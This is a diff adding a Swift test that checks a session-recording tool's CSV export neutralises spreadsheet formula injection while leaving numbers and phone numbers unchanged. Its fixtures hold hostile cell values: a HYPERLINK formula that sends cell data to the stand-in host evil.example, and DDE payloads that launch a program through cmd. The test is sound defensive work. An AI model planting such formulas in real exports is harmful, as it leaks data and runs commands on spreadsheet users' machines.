@@ -86,6 +86,33 @@ import Testing
         }
     }
 
+    /// OWASP "CSV injection": a cell a spreadsheet would run as a formula gets a leading `'`; numbers and phone numbers,
+    /// which cannot be formulas, stay as they are.
+    @Test func cellsThatSpreadsheetsWouldRunAsFormulasAreNeutralisedButNumbersAndPhonesAreNot() throws {
+        let box = try Sandbox()
+        defer { box.remove() }
+        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"clic")"#
+        let session = try box.add("session", ["title": formula, "date": "2026-09-08", "region": "gao", "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
+                                              "format": "intergenerational", "summary": "+cmd|' /C calc'!A0", "agreements": "-2+3",
+                                              "tensions": "-12,5"])
+        _ = try box.add("participant", ["session": session, "consent": "yes", "name": "Hawa Maïga", "phone": "+223 70 00 00 00",
+                                        "sex": "female", "age_band": "18_24", "role": "youth"])
+        #expect(try box.palabre("export", "--format", "csv", "--out", box.path("csv")).status == 0)
+        let sessions = parseCSV(try String(contentsOfFile: box.path("csv/session.csv"), encoding: .utf8))
+        let cell = { (name: String) in sessions[1][sessions[0].firstIndex(of: name)!] }
+        #expect(cell("title") == "'" + formula)
+        #expect(cell("locality") == "'@SUM(1+1)*cmd|' /C calc'!A0")
+        #expect(cell("summary") == "'+cmd|' /C calc'!A0")
+        #expect(cell("agreements") == "'-2+3", "a sign followed by an operator is a formula")
+        #expect(cell("tensions") == "-12,5", "a plain number is left alone")
+        let participants = parseCSV(try String(contentsOfFile: box.path("csv/participant.csv"), encoding: .utf8))
+        #expect(participants[1][participants[0].firstIndex(of: "phone")!] == "+223 70 00 00 00", "a phone number is left alone")
+        // JSON Lines is data, not a spreadsheet: the values travel as they are.
+        #expect(try box.palabre("export", "--format", "jsonl", "--out", box.path("all.jsonl")).status == 0)
+        let lines = try String(contentsOfFile: box.path("all.jsonl"), encoding: .utf8)
+        #expect(lines.contains(#""title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")""#), "\(lines)")
+    }
+
     @Test func labelsReplaceCodesInTheChosenLanguageWithAccentsIntact() throws {
         let box = try importedSandbox()
         defer { box.remove() }
